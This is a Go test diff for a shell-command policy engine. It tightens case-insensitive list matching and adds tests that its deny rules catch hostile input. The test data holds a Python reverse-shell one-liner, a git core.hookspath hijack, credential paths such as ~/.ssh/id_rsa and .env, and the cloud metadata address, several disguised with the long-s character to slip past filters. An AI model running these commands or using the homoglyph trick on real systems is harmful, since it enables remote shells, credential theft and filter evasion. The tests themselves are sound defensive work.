@@ -1,6 +1,8 @@
 package policy
 
 import (
+	"context"
+	"regexp"
 	"slices"
 	"strings"
 	"testing"
@@ -8,7 +10,8 @@ import (
 
 // markNaive is what a list holds, as the package doc defines it: its
 // entries; every string with one of them as a prefix (*_prefixes); every
-// string that contains one, ignoring case (*_substrings).
+// string that contains one, ignoring case as Go's regexp (?i) does
+// (*_substrings): the lists guard rules whose patterns are case-blind.
 func markNaive(lists map[string][]string, s string) []string {
 	var out []string
 	for name, entries := range lists {
@@ -18,7 +21,7 @@ func markNaive(lists map[string][]string, s string) []string {
 			case strings.HasSuffix(name, "_prefixes"):
 				ok = strings.HasPrefix(s, e)
 			case strings.HasSuffix(name, "_substrings"):
-				ok = strings.Contains(strings.ToLower(s), strings.ToLower(e))
+				ok = e == "" || regexp.MustCompile("(?i)"+regexp.QuoteMeta(e)).MatchString(s)
 			default:
 				ok = s == e
 			}
@@ -38,7 +41,7 @@ func TestListIndexMarks(t *testing.T) {
 	e := defaultEngine(t)
 	b := e.Bundle()
 	lists := bundleLists(b)
-	lists["odd_substrings"] = []string{"q", "zz", "zzz", "é"}
+	lists["odd_substrings"] = []string{"q", "zz", "zzz", "é", "μ", "kill"}
 	lists["empty_substrings"] = []string{""}
 	idx := newListIndex(map[string]any{"termgate": map[string]any{"lists": func() map[string]any {
 		m := map[string]any{}
@@ -52,7 +55,8 @@ func TestListIndexMarks(t *testing.T) {
 		return m
 	}()}})
 	words := []string{"", "a", "q", "Q", "zz", "z", "xzzx", "ÉTÉ", "~/.SSH/ID_RSA", "cat ~/.ssh/id_rsa", "/home/u/.ssh",
-		"169.254.169.254", "x169.254.169.254y", "__TERMGATE_x", "cat .env", ".en", "docker.sock", "/var/run/docker.soc"}
+		"169.254.169.254", "x169.254.169.254y", "__TERMGATE_x", "cat .env", ".en", "docker.sock", "/var/run/docker.soc",
+		"import ſocket", "pty.ſpawn", "core.hookſpath=/h", "\u212aILL", "ſ", "\xffsocket\xfe", "ÉtÉ", "µ", "Μ"}
 	for _, c := range loadCorpus(t) {
 		words = append(words, c.Text)
 		words = append(words, strings.Fields(c.Text)...)
@@ -116,4 +120,28 @@ func bundleLists(b *Bundle) map[string][]string {
 		}
 	}
 	return lists
+}
+
+// TestCallerShellFoldsCase: a shell document a caller sends (termgate
+// policy eval) is judged on its words as written, and the rules' case-blind
+// patterns take the long s ſ for s: the lists that guard them must too.
+func TestCallerShellFoldsCase(t *testing.T) {
+	e := defaultEngine(t)
+	for _, c := range []struct {
+		args []string
+		rule string
+	}{
+		{[]string{"python3", "-c", `import ſocket,pty;s=ſocket.create_connection(("h",1));pty.ſpawn("sh")`}, "net.reverse_shell"},
+		{[]string{"git", "-c", "core.hookſpath=/tmp/h", "commit"}, "git.config_exec"},
+	} {
+		in := Input{Action: "input", Program: "bash", Text: strings.Join(c.args, " "),
+			Shell: &Shell{Commands: []Command{{Name: c.args[0], Args: c.args[1:]}}}}
+		d, err := e.Decide(context.Background(), in)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if d.Action != "deny" || d.Rule != c.rule {
+			t.Errorf("%q: %s %s, want deny %s", in.Text, d.Action, d.Rule, c.rule)
+		}
+	}
 }
